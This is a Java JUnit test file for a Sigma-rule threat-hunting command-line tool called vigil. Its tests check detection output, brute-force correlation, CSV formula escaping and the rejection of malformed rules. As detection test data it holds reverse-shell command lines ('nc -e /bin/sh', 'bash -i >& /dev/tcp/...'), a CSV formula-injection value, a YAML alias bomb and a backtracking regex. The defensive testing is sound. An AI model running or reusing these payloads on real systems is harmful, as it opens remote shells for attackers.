package dev.vigil.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.core.testing.Corpus;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code vigil hunt} and {@code vigil rules check} end to end, through the same entry point as the launcher. */
class HuntCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    record Run(int exit, String out, String err) {
        List<JsonNode> jsonLines() throws IOException {
            List<JsonNode> out = new ArrayList<>();
            for (String line : this.out.split("\n")) {
                if (!line.isBlank()) {
                    out.add(JSON.readTree(line));
                }
            }
            return out;
        }
    }

    static Run vigil(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int exit = Main.run(new PrintWriter(out), new PrintWriter(err), args);
        return new Run(exit, out.toString(), err.toString());
    }

    /** An output stream that fails every write with {@code reason}: a full disk, a closed pipe. */
    static java.io.OutputStream failingOutput(String reason) {
        return new java.io.OutputStream() {
            @Override
            public void write(int b) throws IOException {
                throw new IOException(reason);
            }
        };
    }

    /** A run whose standard output goes to {@code stdout} (nothing of it is kept). */
    static Run vigilWritingTo(java.io.OutputStream stdout, String... args) {
        StringWriter err = new StringWriter();
        int exit = Main.run(
                new PrintWriter(new java.io.OutputStreamWriter(stdout, StandardCharsets.UTF_8)),
                new PrintWriter(err),
                args);
        return new Run(exit, "", err.toString());
    }

    /** The events read before a run whose output failed stopped, from its message. */
    static long eventsReadBeforeStopping(Run run) {
        assertThat(run.err()).containsPattern("vigil: cannot write output: .*stopped after \\d+ events");
        return Long.parseLong(run.err().replaceAll("(?s).*stopped after (\\d+) events.*", "$1"));
    }

    private Path write(String name, String content) throws IOException {
        Path p = tmp.resolve(name);
        Files.createDirectories(p.getParent());
        Files.writeString(p, content, StandardCharsets.UTF_8);
        return p;
    }

    private static final String RULE = """
            title: Whoami all
            id: 6a0f3c4e-1d2b-4c5a-9e8f-0a1b2c3d4e5f
            status: test
            logsource:
              product: windows
              category: process_creation
            detection:
              selection:
                Image|endswith: '\\whoami.exe'
                CommandLine|contains: '/all'
              condition: selection
            level: medium
            tags:
              - attack.discovery
              - attack.t1033
            """;

    private static String sysmon(long record, String image, String cmd) {
        return "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
                + "\"EventID\":1,\"EventRecordID\":" + record
                + ",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws1\","
                + "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-01-05T10:00:0" + (record % 10) + "Z\"}}},"
                + "\"EventData\":{\"Image\":" + JSON.valueToTree(image) + ",\"CommandLine\":" + JSON.valueToTree(cmd)
                + "}}}";
    }

    /** A failed-logon rule and, over it, an event_count correlation: three from one address within {@code timespan}. */
    private static String bruteForceRules(String timespan) {
        return """
                title: Failed logon
                name: failed_logon
                id: 0b8b3c11-2d5e-4f5a-8c61-6f1e0f2a9b01
                logsource:
                  product: windows
                  service: security
                detection:
                  selection:
                    EventID: 4625
                  condition: selection
                level: low
                ---
                title: Brute force
                id: 4b9f0a7e-6c1d-4e59-b0a2-1f4d2c3b5a68
                correlation:
                  type: event_count
                  rules:
                    - failed_logon
                  group-by:
                    - IpAddress
                  timespan: %s
                  condition:
                    gte: 3
                level: high
                """.formatted(timespan);
    }

    /** One Security 4625 event as an evtx_dump-style JSON line. */
    private static String failedLogon(long record, Instant time, String address) {
        return "{\"Event\":{\"System\":{\"EventID\":4625,\"EventRecordID\":" + record
                + ",\"Channel\":\"Security\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"" + time
                + "\"}}},\"EventData\":{\"IpAddress\":\"" + address + "\"}}}\n";
    }

    @Test
    void jsonlDetectionsCarryRuleSourceAndEvent() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write(
                "logs/events.jsonl",
                String.join(
                                "\n",
                                sysmon(41, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
                                sysmon(42, "C:\\Windows\\System32\\whoami.exe", "whoami"),
                                sysmon(43, "C:\\Windows\\System32\\WHOAMI.EXE", "whoami /ALL /fo csv"))
                        + "\n");
        Run run = vigil("hunt", "--rules", rules.toString(), "--format", "jsonl", input.toString());
        assertThat(run.exit()).as(run.err()).isZero();
        List<JsonNode> lines = run.jsonLines();
        assertThat(lines).hasSize(2);
        JsonNode first = lines.get(0);
        assertThat(first.path("rule").path("id").asText()).isEqualTo("6a0f3c4e-1d2b-4c5a-9e8f-0a1b2c3d4e5f");
        assertThat(first.path("rule").path("title").asText()).isEqualTo("Whoami all");
        assertThat(first.path("rule").path("level").asText()).isEqualTo("medium");
        assertThat(first.path("rule").path("tags").get(1).asText()).isEqualTo("attack.t1033");
        assertThat(first.path("source").path("file").asText()).isEqualTo(input.toString());
        // Windows events are numbered by their EventRecordID, not their line.
        assertThat(first.path("source").path("record").asLong()).isEqualTo(41);
        assertThat(lines.get(1).path("source").path("record").asLong()).isEqualTo(43);
        assertThat(first.path("timestamp").asText()).isEqualTo("2026-01-05T10:00:01Z");
        assertThat(first.path("event")
                        .path("Event")
                        .path("EventData")
                        .path("CommandLine")
                        .asText())
                .isEqualTo("whoami /all");
    }

    @Test
    void genericJsonLinesAreNumberedByLine() throws IOException {
        Path rules = write("rules/k.yml", """
                title: Keyword
                logsource:
                  product: linux
                detection:
                  keywords:
                    - 'nc -e /bin/sh'
                  condition: keywords
                level: high
                """);
        Path input =
                write("l.jsonl", "{\"msg\":\"hello\"}\n{\"msg\":\"ok\"}\n{\"cmd\":\"nc -e /bin/sh 10.0.0.1 4444\"}\n");
        Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
        assertThat(run.jsonLines()).singleElement().satisfies(d -> {
            assertThat(d.path("source").path("record").asLong()).isEqualTo(3);
            assertThat(d.path("event").path("cmd").asText()).startsWith("nc -e");
        });
    }

    @Test
    void theSameInputGivesTheSameOutput() throws IOException {
        Path data = Corpus.require("sigma/regression_data/rules/windows/process_creation");
        Path rules = Corpus.require("sigma/rules/windows/process_creation");
        Run a = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", data.toString());
        Run b = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", data.toString());
        assertThat(a.exit()).isZero();
        assertThat(a.jsonLines()).hasSizeGreaterThan(20);
        assertThat(a.out()).isEqualTo(b.out());
    }

    @Test
    void anyNumberOfMatchingThreadsGivesTheOutputOfOne() throws IOException {
        Path data = Corpus.require("sigma/regression_data/rules/windows");
        Path rules = Corpus.require("sigma/rules/windows");
        Run one = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--threads", "1", data.toString());
        assertThat(one.exit()).as(one.err()).isZero();
        // Enough events for many batches of OrderedMatcher.BATCH, so batches finish out of order.
        assertThat(one.err()).containsPattern("vigil: \\d{4,} events");
        assertThat(one.jsonLines()).hasSizeGreaterThan(300);
        for (String threads : List.of("2", "5")) {
            Run many = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--threads", threads, data.toString());
            assertThat(many.exit()).as(many.err()).isZero();
            assertThat(many.out()).as("--threads " + threads).isEqualTo(one.out());
            assertThat(many.err()).isEqualTo(one.err());
        }
    }

    @Test
    void correlationsSeeEventsInInputOrderWhateverTheThreads() throws IOException {
        Path rules = write("rules/brute.yml", bruteForceRules("1m"));
        // 2,000 failed logons from 7 addresses, one per second, so windows open and close all along the stream.
        java.util.Random random = new java.util.Random(20261126);
        StringBuilder in = new StringBuilder();
        for (int i = 0; i < 2000; i++) {
            in.append(failedLogon(
                    i + 1, Instant.parse("2026-01-05T10:00:00Z").plusSeconds(i), "203.0.113." + random.nextInt(7)));
        }
        Path input = write("sec.jsonl", in.toString());
        Run one = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--threads", "1", input.toString());
        Run four = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--threads", "4", input.toString());
        assertThat(one.exit()).as(one.err()).isZero();
        assertThat(one.jsonLines()).hasSizeGreaterThan(50);
        assertThat(four.out()).isEqualTo(one.out());
    }

    @Test
    void threadsOutOfRangeExitWithAMessage() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write("e.jsonl", sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n");
        Run run = vigil("hunt", "-r", rules.toString(), "--threads", "0", input.toString());
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("--threads must be between 1 and 256");
    }

    @Test
    void tableListsDetectionsThenCountsAndTactics() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write("e.json", "[" + sysmon(7, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "]");
        Run run = vigil("hunt", "-r", rules.toString(), "-f", "table", input.toString());
        assertThat(run.exit()).isZero();
        assertThat(run.out())
                .contains("Whoami all")
                .contains(input + "#7")
                .contains("1 events in 1 files, 1 detections")
                .contains("By level:")
                .contains("ATT&CK tactics seen:")
                .contains("discovery");
    }

    @Test
    void csvEscapesFormulasAndQuotes() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write("e.jsonl", sysmon(9, "C:\\Windows\\System32\\whoami.exe", "=cmd|' /all,\"x\"") + "\n");
        Run run = vigil("hunt", "-r", rules.toString(), "-f", "csv", input.toString());
        String[] rows = run.out().split("\r\n");
        assertThat(rows[0]).startsWith("timestamp,rule_id,rule_title,level");
        assertThat(rows).hasSize(2);
        // The event cell is JSON, its quotes doubled for CSV.
        assertThat(rows[1]).contains("Whoami all").contains("\"\"CommandLine\"\":\"\"=cmd|' /all,\\\"\"x\\\"\"\"\"");
        assertThat(CsvWriter.cell("=HYPERLINK(\"x\")")).isEqualTo("\"'=HYPERLINK(\"\"x\"\")\"");
        assertThat(CsvWriter.cell("-2+3")).isEqualTo("'-2+3");
    }

    @Test
    void minLevelDropsLowerLevels() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write("e.jsonl", sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n");
        assertThat(vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--min-level", "high", input.toString())
                        .jsonLines())
                .isEmpty();
        assertThat(vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--min-level", "medium", input.toString())
                        .jsonLines())
                .hasSize(1);
    }

    @Test
    void correlationDetectionsCarryGroupByAndTheirEvents() throws IOException {
        Path rules = write("rules/brute.yml", bruteForceRules("5m"));
        StringBuilder in = new StringBuilder();
        for (int i = 1; i <= 3; i++) {
            in.append(failedLogon(100 + i, Instant.parse("2026-01-05T10:00:00Z").plusSeconds(60 * i), "203.0.113.9"));
        }
        Path input = write("sec.jsonl", in.toString());
        Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
        assertThat(run.exit()).as(run.err()).isZero();
        List<JsonNode> lines = run.jsonLines();
        // The base rule has generate: false (the default), so only the correlation is reported.
        assertThat(lines).singleElement().satisfies(d -> {
            assertThat(d.path("rule").path("title").asText()).isEqualTo("Brute force");
            assertThat(d.path("correlation").path("group_by").path("IpAddress").asText())
                    .isEqualTo("203.0.113.9");
            assertThat(d.path("correlation").path("sources")).hasSize(3);
            assertThat(d.path("correlation")
                            .path("sources")
                            .get(0)
                            .path("record")
                            .asLong())
                    .isEqualTo(101);
            assertThat(d.path("source").path("record").asLong()).isEqualTo(103);
        });
    }

    @Test
    void correlationsCountEventsOfFilesReadInNoTimeOrder() throws IOException {
        // a.jsonl (read first) holds a failure an hour after the three of b.jsonl, which come newest first: the three
        // still make the burst, as they would in time order.
        Path rules = write("rules/brute.yml", bruteForceRules("5m"));
        Instant t = Instant.parse("2026-01-05T10:00:00Z");
        write("logs/a.jsonl", failedLogon(10, t.plusSeconds(3600), "203.0.113.9"));
        write(
                "logs/b.jsonl",
                failedLogon(3, t.plusSeconds(120), "203.0.113.9")
                        + failedLogon(2, t.plusSeconds(60), "203.0.113.9")
                        + failedLogon(1, t, "203.0.113.9"));
        Run run = vigil(
                "hunt",
                "-r",
                rules.toString(),
                "-f",
                "jsonl",
                tmp.resolve("logs").toString());

        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.err()).doesNotContain("before the watermark");
        assertThat(run.jsonLines())
                .singleElement()
                .satisfies(d -> assertThat(d.path("correlation").path("sources").findValuesAsText("record"))
                        .containsExactly("1", "2", "3"));
    }

    @Test
    void corruptInputIsReportedAndTheRestIsRead() throws IOException {
        Path evtx;
        try (var files = Files.walk(Corpus.require("sigma/regression_data/rules/windows/process_creation"))) {
            evtx = files.filter(p -> p.toString().endsWith(".evtx"))
                    .sorted()
                    .findFirst()
                    .orElseThrow();
        }
        byte[] bytes = Files.readAllBytes(evtx);
        Path truncated = tmp.resolve("in/truncated.evtx");
        Files.createDirectories(truncated.getParent());
        Files.write(truncated, java.util.Arrays.copyOf(bytes, 4096 + 1024));
        write("in/bad.jsonl", "{\"a\":1}\n{not json\n{\"a\":2}\n");
        write("in/garbage.bin", "\u0000\u0001\u0002binary");
        Run run = vigil("hunt", "-f", "jsonl", tmp.resolve("in").toString());
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.err())
                .contains("bad.jsonl:2")
                .contains("garbage.bin")
                .contains("truncated.evtx")
                .containsPattern("\\d+ events in 3 files");
    }

    @Test
    void missingInputOrRulesExitNonZeroWithAMessage() throws IOException {
        Run noInput = vigil("hunt", tmp.resolve("nope.jsonl").toString());
        assertThat(noInput.exit()).isEqualTo(2);
        assertThat(noInput.err()).contains("input not found").contains("nope.jsonl");
        Path input = write("x.jsonl", "{}\n");
        Run noRules = vigil("hunt", "-r", tmp.resolve("none").toString(), input.toString());
        assertThat(noRules.exit()).isEqualTo(2);
        assertThat(noRules.err()).contains("rules not found");
        Path badRules = write("bad/only.yml", "title: [unclosed");
        Run allFailed = vigil("hunt", "-r", badRules.toString(), input.toString());
        assertThat(allFailed.exit()).isEqualTo(2);
        assertThat(allFailed.err()).contains("no rules could be loaded").contains("only.yml");
    }

    @Test
    void noDetectionsIsStillSuccess() throws IOException {
        Path input = write("quiet.jsonl", "{\"msg\":\"nothing to see\"}\n");
        Run run = vigil("hunt", "-f", "jsonl", input.toString());
        assertThat(run.exit()).isZero();
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).contains("1 events in 1 files, 0 detections");
    }

    @Test
    void rulesCheckReportsEveryBadRuleAsJson() throws IOException {
        write("rs/good.yml", RULE);
        write("rs/invalid.yml", "title: x\ndetection: [\n");
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            bomb.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [*")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append("]\n");
        }
        write("rs/bomb.yml", bomb.toString());
        write("rs/backtrack.yml", RULE.replace("Image|endswith: '\\whoami.exe'", "Image|re: '^(a|a)*(?=b)'"));
        write("rs/notarule.yml", "just: a map\n");
        // Nesting that would exhaust the parser's stack: 400 KB of flow sequences, and block sequences on one line.
        write("rs/deepflow.yml", RULE.replace("'\\whoami.exe'", "[".repeat(200_000) + "]".repeat(200_000)));
        write("rs/deepblock.yml", "title: x\ndetection:\n  sel:\n    A:\n      " + "- ".repeat(100_000) + "x\n");
        Run run = vigil("rules", "check", "--format", "json", tmp.resolve("rs").toString());
        assertThat(run.exit()).isEqualTo(1);
        JsonNode report = JSON.readTree(run.out());
        assertThat(report.path("loaded").asInt()).isEqualTo(1);
        assertThat(report.path("failed").asInt()).isEqualTo(6);
        List<String> errors = new ArrayList<>();
        report.path("errors")
                .forEach(e -> errors.add(
                        e.path("file").asText() + ": " + e.path("message").asText()));
        assertThat(errors).anySatisfy(e -> assertThat(e).contains("invalid.yml").contains("invalid YAML"));
        assertThat(errors).anySatisfy(e -> assertThat(e).contains("bomb.yml").containsIgnoringCase("alias"));
        assertThat(errors)
                .anySatisfy(e -> assertThat(e).contains("backtrack.yml").contains("RE2J"));
        assertThat(errors)
                .anySatisfy(e -> assertThat(e).contains("notarule.yml").contains("not a Sigma rule"));
        assertThat(errors)
                .anySatisfy(e -> assertThat(e).contains("deepflow.yml").contains("nested more than 64 levels"));
        assertThat(errors)
                .anySatisfy(e -> assertThat(e).contains("deepblock.yml").contains("nested more than 64 levels"));

        Run text = vigil("rules", "check", tmp.resolve("rs").toString());
        assertThat(text.out()).contains("FAILED").contains("1 rules loaded, 6 failed");
    }

    @Test
    void placeholdersAndPipelinesNestedTooDeepAreRefusedByName() throws IOException {
        Path input = write("quiet.jsonl", "{\"msg\":\"nothing to see\"}\n");
        Path placeholders = write("deep-placeholders.yml", "admins: " + "[".repeat(100_000) + "]".repeat(100_000));
        Run run = vigil("hunt", "--placeholders", placeholders.toString(), input.toString());
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("deep-placeholders.yml").contains("nested more than 64 levels");

        Path pipeline = write("deep-pipeline.yml", "transformations:\n  " + "- ".repeat(100_000) + "x\n");
        run = vigil("hunt", "--pipeline", pipeline.toString(), input.toString());
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("deep-pipeline.yml").contains("nested more than 64 levels");
    }

    @Test
    void anOutputThatIsAnInputIsRefusedAndLeftAlone() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        String evidence = sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n";
        Path input = write("logs/a.jsonl", evidence);
        Run same = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "-o", input.toString(), input.toString());
        assertThat(same.exit()).isEqualTo(2);
        assertThat(same.err()).contains("--output " + input).contains("is also an input");
        assertThat(Files.readString(input)).isEqualTo(evidence);
        // Another name for an input file, a link to one, or a new file in a directory being hunted: refused as well.
        Path link = Files.createSymbolicLink(tmp.resolve("link.jsonl"), input);
        Path logs = tmp.resolve("logs");
        for (Path out : List.of(logs.resolve("../logs/a.jsonl"), link, logs.resolve("detections.jsonl"))) {
            Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "-o", out.toString(), logs.toString());
            assertThat(run.exit()).as(out + ": " + run.err()).isEqualTo(2);
            assertThat(run.err()).contains("--output " + out);
        }
        assertThat(Files.readString(input)).isEqualTo(evidence);
        assertThat(logs.resolve("detections.jsonl")).doesNotExist();
        Run elsewhere = vigil(
                "hunt", "-r", rules.toString(), "-o", tmp.resolve("out.jsonl").toString(), logs.toString());
        assertThat(elsewhere.exit()).as(elsewhere.err()).isZero();
        assertThat(Files.readString(tmp.resolve("out.jsonl"))).contains("Whoami all");
    }

    @Test
    void aLoneSurrogateInLogDataIsWrittenToEveryOutputFormat() throws IOException {
        write("rules/whoami.yml", RULE);
        write("rules/brute.yml", bruteForceRules("5m"));
        // JSON escapes give the strings a lone UTF-16 surrogate, which UTF-8 cannot encode.
        StringBuilder in = new StringBuilder(sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all LONE")
                        .replace("LONE", "\\ud800"))
                .append('\n');
        for (int i = 1; i <= 3; i++) {
            in.append(failedLogon(i, Instant.parse("2026-01-05T10:00:00Z").plusSeconds(i), "203.0.113.9\\udc00"));
        }
        Path input = write("lone.jsonl", in.toString());
        for (String format : List.of("jsonl", "csv", "table")) {
            Path out = tmp.resolve("out." + format);
            Run run = vigil(
                    "hunt",
                    "-r",
                    tmp.resolve("rules").toString(),
                    "-f",
                    format,
                    "-o",
                    out.toString(),
                    input.toString());
            assertThat(run.exit()).as(format + ": " + run.err()).isZero();
            assertThat(Files.readString(out)).as(format).contains("Whoami all").contains("Brute force");
        }
        // In JSON the surrogates are escaped, so the event reads back as it was.
        List<JsonNode> lines = new Run(0, Files.readString(tmp.resolve("out.jsonl")), "").jsonLines();
        assertThat(lines).hasSize(2);
        assertThat(lines.get(0)
                        .path("event")
                        .path("Event")
                        .path("EventData")
                        .path("CommandLine")
                        .asText())
                .isEqualTo("whoami /all \ud800");
        assertThat(lines.get(1)
                        .path("correlation")
                        .path("group_by")
                        .path("IpAddress")
                        .asText())
                .isEqualTo("203.0.113.9\udc00");
    }

    @Test
    void anUnreadableInputInADirectoryIsReportedAndTheRestHunted() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        write("in/a.jsonl", sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n");
        Path loop = Files.createSymbolicLink(tmp.resolve("in/loop"), tmp.resolve("in"));
        Run run = vigil(
                "hunt", "-r", rules.toString(), "-f", "jsonl", tmp.resolve("in").toString());
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.jsonLines()).hasSize(1);
        assertThat(run.err())
                .contains("vigil: " + loop + ": symbolic link loop")
                .contains("1 events in 1 files, 1 detections, 1 input problems");
        Run table = vigil(
                "hunt", "-r", rules.toString(), "-f", "table", tmp.resolve("in").toString());
        assertThat(table.exit()).as(table.err()).isZero();
        assertThat(table.err()).contains(loop + ": symbolic link loop");
        assertThat(table.out()).contains("1 input problems").contains(loop + ": symbolic link loop");
        // When nothing at all can be read, the hunt fails with the usage exit code.
        Path nothing = tmp.resolve("nothing");
        Files.createDirectories(nothing);
        Files.createSymbolicLink(nothing.resolve("loop"), nothing);
        Run none = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", nothing.toString());
        assertThat(none.exit()).isEqualTo(2);
        assertThat(none.err()).contains("symbolic link loop").contains("no input could be read");
    }

    @Test
    void levelsAreReadInAnyCaseAndAnUnknownLevelRanksAsMedium() throws IOException {
        StringBuilder in = new StringBuilder();
        for (int i = 1; i <= 3; i++) {
            in.append(failedLogon(i, Instant.parse("2026-01-05T10:00:00Z").plusSeconds(i), "203.0.113.9"));
        }
        Path input = write("sec.jsonl", in.toString());
        Path high = write("high/brute.yml", bruteForceRules("5m").replace("level: high", "level: High"));
        Run run = vigil("hunt", "-r", high.toString(), "-f", "table", "--min-level", "HIGH", input.toString());
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.out()).contains("Brute force").containsPattern("By level:\\R  high +1\\R");
        Path severe = write("severe/brute.yml", bruteForceRules("5m").replace("level: high", "level: severe"));
        for (String min : List.of("low", "medium", "high")) {
            Run r = vigil("hunt", "-r", severe.toString(), "-f", "jsonl", "--min-level", min, input.toString());
            assertThat(r.exit()).as(r.err()).isZero();
            assertThat(r.jsonLines()).as("--min-level " + min).hasSize(min.equals("high") ? 0 : 1);
        }
        Run table = vigil("hunt", "-r", severe.toString(), "-f", "table", input.toString());
        assertThat(table.out()).containsPattern("By level:\\R  medium +1\\R");
        assertThat(HuntSummary.levelRank("Severe")).isEqualTo(HuntSummary.levelRank("medium"));
        assertThat(HuntSummary.levelRank("CRITICAL")).isEqualTo(HuntSummary.levelRank("critical"));
    }

    @Test
    void anOutputThatCannotBeWrittenExitsNonZero() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        Path input = write("e.jsonl", sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n");
        java.io.OutputStream full = failingOutput("No space left on device");
        for (String format : List.of("jsonl", "csv", "table")) {
            Run run = vigilWritingTo(full, "hunt", "-r", rules.toString(), "-f", format, input.toString());
            assertThat(run.exit()).as(format + ": " + run.err()).isEqualTo(1);
            assertThat(run.err()).contains("vigil: cannot write output: ");
        }
        // The process's own standard output, a PrintStream that keeps its errors to itself as well.
        java.io.PrintStream systemOut = System.out;
        StringWriter err = new StringWriter();
        int exit;
        try {
            System.setOut(new java.io.PrintStream(full, true, StandardCharsets.UTF_8));
            exit = Main.run(null, new PrintWriter(err), "hunt", "-r", rules.toString(), input.toString());
        } finally {
            System.setOut(systemOut);
        }
        assertThat(exit).as(err.toString()).isEqualTo(1);
        assertThat(err.toString()).contains("vigil: cannot write output: ");
        Run noFolder = vigil(
                "hunt",
                "-r",
                rules.toString(),
                "-o",
                tmp.resolve("no/such/dir/out.jsonl").toString(),
                input.toString());
        assertThat(noFolder.exit()).isEqualTo(1);
        assertThat(noFolder.err()).contains("vigil: cannot write output: ").contains("out.jsonl");
    }

    @Test
    void aClosedStandardOutputStopsTheHuntEarly() throws IOException {
        Path rules = write("rules/whoami.yml", RULE);
        StringBuilder many = new StringBuilder();
        for (int i = 1; i <= 5_000; i++) {
            many.append(sysmon(i, "C:\\Windows\\System32\\whoami.exe", "whoami /all"))
                    .append('\n');
        }
        Path input = write("many.jsonl", many + "{\"bad line at the end\"\n");
        Path second = write("second.jsonl", "{\"bad line in the second file\"\n");
        for (String threads : List.of("1", "2")) {
            Run run = vigilWritingTo(
                    failingOutput("Broken pipe"),
                    "hunt",
                    "-r",
                    rules.toString(),
                    "-f",
                    "jsonl",
                    "--threads",
                    threads,
                    input.toString(),
                    second.toString());
            assertThat(run.exit()).as(run.err()).isEqualTo(1);
            long stoppedAfter = eventsReadBeforeStopping(run);
            assertThat(stoppedAfter).as("--threads " + threads).isLessThan(5_000);
            assertThat(run.err())
                    .as("neither the end of the first file nor the second file is read")
                    .doesNotContain("many.jsonl:5001")
                    .doesNotContain("second.jsonl");
        }
    }

    @Test
    void builtInPackRunsWithoutRulesOption() throws IOException {
        Path input = write(
                "lin.jsonl",
                "{\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
                        + "\"Image\":\"/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\","
                        + "\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}\n");
        Run run = vigil("hunt", "-f", "jsonl", input.toString());
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.jsonLines()).isNotEmpty();
        assertThat(run.jsonLines().get(0).path("rule").path("title").asText()).isNotBlank();
    }
}
